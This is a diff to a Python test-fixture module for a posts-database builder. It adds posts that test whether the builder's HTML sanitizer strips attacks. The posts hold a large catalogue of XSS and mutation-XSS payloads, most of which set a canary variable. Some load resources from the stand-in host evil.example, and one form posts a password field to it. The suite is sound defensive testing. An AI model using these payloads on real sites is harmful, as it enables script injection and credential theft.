@@ -9,7 +9,9 @@ each file, keyed by the path the database names it by (relative to `folder`):
     ABSENT           never seen at all (inside a folder the build does not enter)
 
 `write_good_posts(folder)` adds ordinary posts, which must become articles whatever sits
-beside them.
+beside them, and `write_attack_posts(folder, local_image)` posts that each try to run script
+or reach another host in a reader's browser. `build_hostile_site` writes all three into one
+folder and builds it with the real CLI, once per test session (conftest.py, `hostile_build`).
 """
 
 from __future__ import annotations
@@ -20,12 +22,18 @@ import os
 import random
 import re
 import shutil
+import subprocess
+import sys
+from dataclasses import dataclass
 from pathlib import Path
 
 from selectolax.lexbor import LexborHTMLParser
 
 from postsdb.build import display_path
 
+CLI_TIMEOUT = 240  # a hang (say, on a FIFO) must fail the test, not the whole run
+EVIL = "https://evil.example"
+ATTACKS_FOLDER = "attacks"
 ARTICLE = "article"
 SKIP = "skip"
 ABSENT = "absent"
@@ -439,3 +447,171 @@ def write_good_posts(folder: Path) -> dict[str, str]:
     urls[SEED_POST.name] = "https://www.rfa.org/mandarin/yataibaodao/meiti/ql2-09062021062321.html"
     return urls
 
+
+# --- attacks the hostile suite lacks: each sets a canary if it ever runs -------------------
+
+CANARY_ATTACKS = {
+    "scripts": """<p>脚本<script>window.__canary='script'</script></p><SCRIPT SRC="{evil}/x.js"></SCRIPT>
+<script src="/-/static/app.js"></script><script type="module">window.__canary='module'</script>
+<p>拆开<scr<script>ipt>window.__canary='split'</scr</script>ipt></p>""",
+    "handlers": """<p onclick="window.__canary='onclick'" onmouseover="window.__canary='onmouseover'">悬停</p>
+<img src="x" onerror="window.__canary='onerror'"><img src="{local_image}" onload="window.__canary='onload'" alt="本地图片">
+<details open ontoggle="window.__canary='ontoggle'"><summary>摘要</summary>内容</details>
+<input autofocus onfocus="window.__canary='onfocus'"><body onload="window.__canary='body-onload'">
+<video><source onerror="window.__canary='source-onerror'"></video><marquee onstart="window.__canary='marquee'">跑马灯</marquee>
+<div style="animation: spin 1s" onanimationstart="window.__canary='animation'">动画</div>
+<svg><animate onbegin="window.__canary='onbegin'" attributeName="x" dur="1s"/></svg>
+<img src="{evil}/a.png" OnErRoR="window.__canary='mixed-case'" alt="大小写"><img src="{evil}/b.png"/onerror="window.__canary='slash'" alt="斜线">""",
+    "links": """<p><a href="javascript:window.__canary='js-link'">一</a> <a href="JAVASCRIPT:window.__canary='js-upper'">二</a>
+<a href="&#x6A;avascript:window.__canary='js-entity'">三</a> <a href="java&#x0A;script:window.__canary='js-newline'">四</a>
+<a href="data:text/html,&lt;script&gt;parent.__canary='data-html'&lt;/script&gt;">五</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">六</a> <a href="vbscript:msgbox(1)">七</a>
+<a href="{evil}/page" target="_blank" rel="opener" ping="{evil}/ping">八</a> <a href="{evil}/file" download>九</a>
+<a href="https://good.example.org/ok">好链接</a></p>""",
+    "stylesheets-and-fonts": """<link rel="stylesheet" href="{evil}/x.css"><link rel="preload" as="font" href="{evil}/f.woff2" crossorigin>
+<link rel="prefetch" href="{evil}/p"><link rel="dns-prefetch" href="{evil}"><link rel="import" href="{evil}/i.html">
+<style>@import url("{evil}/import.css"); @font-face {{ font-family: evil; src: url("{evil}/font.woff2") }} body {{ font-family: evil; background: url("{evil}/bg.png") }}</style>
+<p style="font-family: evil; background-image: url({evil}/inline-bg.png)">样式</p><svg><style>@import url("{evil}/svg.css");</style></svg>
+<div style="behavior: url({evil}/x.htc); width: expression(window.__canary='expression')">旧IE</div>""",
+    "frames": """<iframe src="{evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__canary='srcdoc'&lt;/script&gt;"></iframe>
+<iframe src="javascript:parent.__canary='iframe-js'"></iframe><frameset><frame src="{evil}/frame2"></frameset>
+<object data="{evil}/x.html" type="text/html"></object><embed src="{evil}/x.swf"><applet code="x.class"></applet>
+<portal src="{evil}/portal"></portal><p>框架后</p>""",
+    "meta-and-base": """<meta http-equiv="refresh" content="0;url={evil}/refresh"><meta http-equiv="refresh" content="0;url=javascript:window.__canary='meta'">
+<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="{evil}/"><base target="_blank">
+<p>相对<a href="relative/link">链接</a><img src="relative/image.png" alt="相对图片"></p>""",
+    "forms": """<form action="{evil}/steal" method="post"><input name="password" type="password">
+<button formaction="javascript:window.__canary='formaction'">提交</button><input type="image" src="{evil}/input.png"></form><p>表单后</p>""",
+    "svg-and-math": """<svg xmlns="http://www.w3.org/2000/svg" onload="window.__canary='svg-onload'"><script>window.__canary='svg-script'</script>
+<a xlink:href="javascript:window.__canary='svg-link'"><text x="0" y="15">点</text></a><image href="{evil}/svg-image.svg"/>
+<foreignObject><iframe src="{evil}/fo"></iframe></foreignObject><use href="{evil}/sprite.svg#x"/></svg>
+<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;">
+<math><maction actiontype="statusline" xlink:href="javascript:window.__canary='math-link'">数学</maction></math>
+<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>矢量图后</p>""",
+    "media-and-images": """<img src="{evil}/tracker.png" referrerpolicy="unsafe-url" loading="eager" alt="跟踪">
+<img srcset="{evil}/1x.png 1x, {evil}/2x.png 2x" alt="srcset"><img data-src="{evil}/lazy.png" src="data:image/gif;base64,R0lGOD" alt="懒加载">
+<picture><source srcset="{evil}/source.webp" type="image/webp"><img src="{evil}/picture.png" alt="picture"></picture>
+<audio src="{evil}/a.mp3" autoplay></audio><video src="{evil}/v.mp4" poster="{evil}/poster.png" autoplay></video>
+<table background="{evil}/table-bg.png"><tr><td background="{evil}/td-bg.png">表格</td></tr></table>
+<img src="{local_image}" alt="本地图片二">""",
+}
+# Mutation XSS: markup that a sanitizer and a browser may parse differently. One post each,
+# so that one swallowing the rest of the body cannot hide another.
+MUTATION_ATTACKS = {
+    "mglyph-style": """<math><mtext><table><mglyph><style><img src=x onerror="window.__canary='mglyph'"></style></mglyph></table></mtext></math>""",
+    "svg-p-style": """<svg></p><style><a id="</style><img src=1 onerror=window.__canary='svg-p-style'>"></svg>""",
+    "noscript-title": """<noscript><p title="</noscript><img src=x onerror=window.__canary='noscript'>">无脚本</p></noscript>""",
+    "form-math": """<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__canary='form-math'">""",
+    "math-style": """<math><style><img src=x onerror="window.__canary='math-style'"></style></math>""",
+    "svg-style": """<svg><style><img src=x onerror="window.__canary='svg-style'"></style></svg>""",
+    "select-template": """<select><template><style><img src=x onerror="window.__canary='select-template'"></style></template></select>""",
+    "textarea": """<textarea></textarea><img src=x onerror="window.__canary='textarea'"><textarea><img src=x onerror="window.__canary='in-textarea'"></textarea>""",
+    "title": """<title><img src=x onerror="window.__canary='title-element'"></title><p>后</p>""",
+    "xmp": """<xmp><img src=x onerror="window.__canary='xmp'"></xmp><p>后</p>""",
+    "noembed-noframes": """<noembed><img src=x onerror="window.__canary='noembed'"></noembed><noframes><img src=x onerror="window.__canary='noframes'"></noframes>""",
+    "comment": """<!--><img src=x onerror="window.__canary='comment'">--><p>后</p>""",
+    "cdata": """<![CDATA[><img src=x onerror="window.__canary='cdata'">]]><p>后</p>""",
+    "attribute-quotes": """<a href="https://good.example.org/q" title="&quot;&gt;&lt;img src=x onerror=window.__canary='attr'&gt;">属性</a>
+<img src="https://img.example.org/ok.png" alt="&quot; onerror=&quot;window.__canary='alt'">""",
+    "iframe-text": """<iframe><img src=x onerror="window.__canary='iframe-text'"></iframe><p>后</p>""",
+    "plaintext": """<p>前</p><plaintext><img src=x onerror="window.__canary='plaintext'">""",
+    "style-in-table": """<table><style><img src=x onerror="window.__canary='table-style'"></style><tr><td>格</td></tr></table>""",
+}
+# Front matter fields are shown on the article page too (escaped by the template).
+FIELD_ATTACK = {
+    "title": "</title><script>window.__canary='title'</script><img src=x onerror=\"window.__canary='title-img'\">",
+    "author": "<img src=x onerror=\"window.__canary='author'\">",
+    "tag": "<svg onload=\"window.__canary='tag'\">",
+    "category": "<iframe src=\"https://evil.example/category\"></iframe>",
+}
+
+
+def yaml_quote(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
+
+
+def write_attack_posts(folder: Path, local_image: str) -> dict[str, str]:
+    """Every attack as a post, in the RSS shape (one `<div>` line: only the sanitizer stands
+    in the way) and the scraped shape (chrome removal first); return {url: name}.
+    `local_image` is an image on the server that will serve them (it must load)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    posts = {}
+
+    def write(name: str, body: str, title: str = "攻击", author: str = "作者", tag: str = "测试", category: str = "攻击"):
+        url = f"https://attacks.example.com/{name}"
+        front = (
+            f"---\nlayout: post\ntitle: {yaml_quote(title + ' ' + name)}\ndate: 2024-01-02T03:04:05Z\n"
+            f"author: {yaml_quote(author)}\nfrom: {url}\ntags: [ {yaml_quote(tag)} ]\ncategories: [ {yaml_quote(category)} ]\n---\n"
+        )
+        (folder / f"{name}.md").write_text(front + body, encoding="utf-8")
+        posts[url] = name
+
+    for name, template in CANARY_ATTACKS.items():
+        body = template.format(evil=EVIL, local_image=local_image)
+        write(f"{name}-rss", "<div>" + body.replace("\n", "") + "</div>\n")
+        write(f"{name}-scraped", "<article>\n" + body + "\n</article>\n")
+    for name, body in MUTATION_ATTACKS.items():
+        # A sentence of text: a page with nothing left to read is refused, not stored.
+        write(f"mxss-{name}", "<div><p>正文。</p>" + body.replace("\n", "") + "</div>\n")
+    write("front-matter-fields", "<div><p>字段</p></div>\n", **FIELD_ATTACK)
+    return posts
+
+
+# --- the one build ---------------------------------------------------------------
+
+
+@dataclass
+class Run:
+    returncode: int
+    stdout: str
+    stderr: str
+
+    @property
+    def problem_lines(self) -> list[str]:
+        return [line for line in self.stderr.splitlines() if line.strip()]
+
+    @property
+    def summary(self) -> str:
+        return " ".join(self.stdout.split())  # rich wraps long lines at the terminal width
+
+
+def run_cli(*args, cwd: Path | None = None) -> Run:
+    """`build_db.py` in a child process, as a user runs it."""
+    env = {**os.environ, "PYTHONUTF8": "1", "COLUMNS": "200"}
+    done = subprocess.run(
+        [sys.executable, str(ROOT / "build_db.py"), *map(str, args)],
+        capture_output=True,
+        text=True,
+        encoding="utf-8",
+        errors="replace",
+        timeout=CLI_TIMEOUT,
+        cwd=cwd or ROOT,
+        env=env,
+    )
+    return Run(done.returncode, done.stdout, done.stderr)
+
+
+@dataclass
+class HostileBuild:
+    folder: Path
+    db: Path
+    expected: dict[str, str]  # hostile file -> outcome (see the top of this file)
+    good: dict[str, str]  # good post's path -> url
+    attacks: dict[str, str]  # attack post's url -> path
+    port: int  # the attack posts' local image is on this port: serve the database there
+    run: Run
+
+
+def build_hostile_site(base: Path, port: int) -> HostileBuild:
+    """The hostile files, the good posts and the attack posts (in attacks/) in one folder,
+    built by `build_db.py build` into base/out/posts.db."""
+    folder = base / "posts"
+    folder.mkdir()
+    expected = write_hostile_posts(folder)
+    good = write_good_posts(folder)
+    local_image = f"http://127.0.0.1:{port}/-/static/favicon.png"
+    names = write_attack_posts(folder / ATTACKS_FOLDER, local_image)
+    attacks = {url: f"{ATTACKS_FOLDER}/{name}.md" for url, name in names.items()}
+    db = base / "out" / "posts.db"
+    run = run_cli("build", folder, "--db", db)
+    return HostileBuild(folder, db, expected, good, attacks, port, run)
